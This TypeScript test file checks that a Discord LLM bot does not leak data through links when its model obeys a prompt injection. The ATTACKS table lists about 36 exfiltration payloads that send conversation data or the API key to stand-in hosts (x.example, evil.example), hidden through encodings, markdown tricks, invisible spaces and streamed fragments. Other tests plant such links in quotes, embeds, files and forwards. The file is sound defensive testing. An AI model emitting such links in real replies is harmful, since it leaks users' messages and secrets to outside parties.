/** A model that obeys an injection, and writes links that carry data. */

import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { describe, it } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { EMPTY_DRAFT } from "../../../simulator/actions/draft.ts";
import { postMessage } from "../../../simulator/actions/messages.ts";
import { wordsOf } from "../../../simulator/model/script.ts";
import { API_KEY, type Scene, withSimulation } from "../../support/bot/e2e.ts";
import { sharedBot } from "../../support/bot/shared_bot.ts";
import { startFixedModel } from "../../support/model/fixed_model.ts";

const SUPPRESS_EMBEDS = 1 << 2;
/** The message has a link that the sender wrote. */
const WRITTEN = "https://x.example/page?id=7";
const DATA = "0f1e2d3c-what-people-said";

/** Links that Discord's server may fetch for a message, read with little care. */
function linksIn(text: string): readonly string[] {
  return addressesIn(text.replace(/(?<!\\|<[^\s>]*)<https?:\/\/[^\s<>]*>/gi, " "));
}

/** Links that a person may click, with those in angle brackets. */
function addressesIn(text: string): readonly string[] {
  const withoutCode = text.replace(/```[\s\S]*?```|``[^`]*``|`[^`\n]*`/g, " ");
  return Array.from(
    withoutCode.matchAll(/https?:\/\/[^\t\n\r <>]*/gi),
    // A bracket or a sentence may end here; Discord leaves that out as well.
    ([link]) => link.replace(/[.,:;"')\]*]*$/, ""),
  );
}

/** Every text of the bot that Discord received, drafts and edits included. */
function texts({ simulator }: Scene): readonly string[] {
  return simulator.requests.records().flatMap(({ body }) =>
    typeof body === "object" && body && "content" in body ? [String(body.content)] : []
  );
}

const ZW = "\u200b";
/** Answers of the obedient model, by the link that Discord may see: none, or the sender's. */
const ATTACKS: readonly (readonly [what: string, answer: string, link?: string])[] = [
  ["a query", `https://x.example/?k=${DATA}`],
  ["a query on the sender's URL", `${WRITTEN}&k=${DATA}`],
  ["a fragment on the sender's URL", `${WRITTEN}#${DATA}`],
  ["a path that a browser removes", `https://x.example/${DATA}/../page?id=7`],
  ["the same, encoded", `https://x.example/${DATA}/%2e%2e/page?id=7`],
  ["punctuation behind the sender's URL", `${WRITTEN}!?_*~!!?`, WRITTEN],
  ["punctuation in brackets", `<${WRITTEN}!?_*~!!?>`],
  ["capitals of the host", "https://X.eXAmple/page?id=7"],
  ["a full-width host", "https://ｘ.example/page?id=7"],
  ["a user before the host", `https://${DATA}@x.example/page?id=7`],
  ["a port", "https://x.example:443/page?id=7"],
  ["a white space that only JavaScript knows", `${WRITTEN}\ufeff${DATA}`, WRITTEN],
  ["an ideographic space", `${WRITTEN}\u3000${DATA}`, WRITTEN],
  ["a zero-width space", `${WRITTEN}${ZW}${DATA}`],
  ["a masked link", `[the page](https://x.example/?k=${DATA} "title")`],
  ["a masked link in angle brackets", `[the page](<https://x.example/?k=${DATA}>)`],
  ["a link in the words of another", `[https://x.example/?k=${DATA}](${WRITTEN})`, WRITTEN],
  ["a picture", `![the page](https://x.example/p.png?k=${DATA})`],
  ["a reference", `[1]: https://x.example/?k=${DATA}`],
  ["a reference that is used", `[page][1]\n\n[1]: https://x.example/?k=${DATA}`],
  ["a part of an address in entities", `https:&#47;&#x2f;x.example/?k=${DATA}`],
  ["HTML", `<a href="https://x.example/?k=${DATA}">page</a>`],
  ["an unclosed bracket", `<https://x.example/?k=${DATA}`],
  ["a spoiler", `||https://x.example/?k=${DATA}||`],
  ["code that is none", `\\\`https://x.example/?k=${DATA}\``],
  ["a fence that ends early", `\`\`\`\nx\n\`\`\` https://x.example/?k=${DATA} \`\`\``],
  ["a table", `| a |\n|---|\n| https://x.example/?k=${DATA} |`],
  ["a quote", `> https://x.example/?k=${DATA}`],
  ["a host in punycode", `https://xn--e1afmkfd.example/?k=${DATA}`],
  ["a host that the data is a part of", `https://${DATA}.x.example/`],
  ["a secret", `https://x.example/?k=${API_KEY}`],
  ["a secret in hex", `https://x.example/${Buffer.from(API_KEY).toString("hex")}`],
  ["a secret in base64 on the URL", `${WRITTEN}&k=${Buffer.from(API_KEY).toString("base64url")}`],
  [
    "a secret in percent codes",
    `${WRITTEN}&k=${API_KEY.replace(/./g, (one) => `%${one.charCodeAt(0).toString(16)}`)}`,
  ],
  ["a secret as a host", `https://${API_KEY.toLowerCase()}.x.example/`],
  ["the sender's URL", `See ${WRITTEN}.`, WRITTEN],
];

describe("[SEC-R7] a model that wants to leak data by links", () => {
  const play = sharedBot({});

  it("lets Discord fetch no link but the sender's, and sends no secret", () =>
    withSimulation({ simulator: { rateLimits: false } }, async (scene) => {
      const { simulator, start, say, mention, replies } = scene;
      await using model = await startFixedModel((asked) =>
        ATTACKS[Number(/attack (\d+)!/.exec(wordsOf(asked))?.[1])]?.[1] ?? "no such attack"
      );
      await start({ OPENAI_BASE_URL: model.baseUrl });
      for (const [index, [what, , link]] of ATTACKS.entries()) {
        say("grace", "general", `${mention} attack ${index}! Look at ${WRITTEN}, please.`);
        const shown = (await replies("general", index + 1)).at(-1) ?? "";
        for (const found of linksIn(shown)) assert.equal(found, link, `${what}: ${shown}`);
        const flags = simulator.posted("general").at(-1)?.flags ?? 0;
        const isWhole = shown === `See ${WRITTEN}.` || shown === WRITTEN;
        assert.equal((flags & SUPPRESS_EMBEDS) !== 0, !isWhole, `${what}: ${shown}`);
        if (link) assert.ok(shown.includes(link), `${what}: ${shown}`);
      }
      const all = texts(scene).join("\n");
      for (const part of [API_KEY, API_KEY.slice(-12), Buffer.from(API_KEY).toString("hex")]) {
        assert.ok(!all.toLowerCase().includes(part.toLowerCase()), part);
      }
    }));

  it("lets Discord fetch no link in a quote, an embed, a file, overheard or forwarded text", async () => {
    const named = `https://evil.example/?k=${DATA}`;
    await using model = await startFixedModel(() => `Read ${named}`);
    await play(async ({ simulator, say, mention, replies, user, here }) => {
      const general = simulator.channel(here).id;
      const quoted = say("ada", here, `Ask the bot about ${named}`); // and it is overheard
      simulator.say({
        as: "grace",
        in: here,
        text: `${mention} what is this?`,
        replyTo: quoted.id,
        embeds: [{ title: named, url: named, description: `see ${named}` }],
        attachments: [{ filename: "evil.txt", description: named, sizeBytes: 3 }],
      });
      await replies(here, 1);
      const forward = postMessage(
        simulator.world,
        general,
        { kind: "user", userId: user("grace").id },
        {
          ...EMPTY_DRAFT,
          reference: { kind: "forward", messageId: quoted.id, failIfNotExists: true },
        },
        Date.now(),
      );
      assert.ok(forward.kind === "done");
      simulator.publish(forward.events);
      say("grace", here, `${mention} and that, from evil.example?`, forward.value.message.id);
      for (const reply of await replies(here, 2)) {
        assert.deepEqual(linksIn(reply), []);
        assert.equal(reply, `Read <${named}>`); // a person may click it
      }
      for (const { flags } of simulator.posted(here)) assert.equal(flags, SUPPRESS_EMBEDS);
    }, { config: model.config });
  });

  it("shows no link while it grows, nor in two halves of a long answer", async () => {
    const filler = "Krill are small, and there are very many of them. ".repeat(3);
    const [draft, grown] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
    async function* growing(): AsyncGenerator<string> {
      for (const piece of [filler, "See ht", "tps", "://x.exa", `mple/${DATA.slice(0, 9)}`]) {
        yield piece;
        await sleep(400);
      }
      await draft.promise;
      yield `${DATA.slice(9)}?k=${DATA}\n${filler}${WRITTEN}`;
      await grown.promise;
      yield `&k=${DATA} That is all.`;
    }
    await using model = await startFixedModel(growing);
    await play(async (scene) => {
      const { simulator, say, mention, until, here } = scene;
      say("grace", here, `${mention} look at ${WRITTEN}`);
      await until("the draft", () => texts(scene).length > 0);
      draft.resolve();
      await until("more of it", () => texts(scene).length > 1);
      grown.resolve();
      await until("the end", () => simulator.posted(here).at(-1)?.content.includes("is all."));
      const all = texts(scene);
      assert.ok(all.length > 2, "a draft has grown");
      for (const text of all) {
        for (const link of linksIn(text)) assert.equal(link, WRITTEN, text);
      }
      for (const { flags, content } of simulator.posted(here)) {
        assert.ok((flags & SUPPRESS_EMBEDS) !== 0, `the edited draft has the flag: ${content}`);
      }
    }, { discord: () => ({ streaming: "edit", textChunkLimit: 200 }), config: model.config });
  });
});
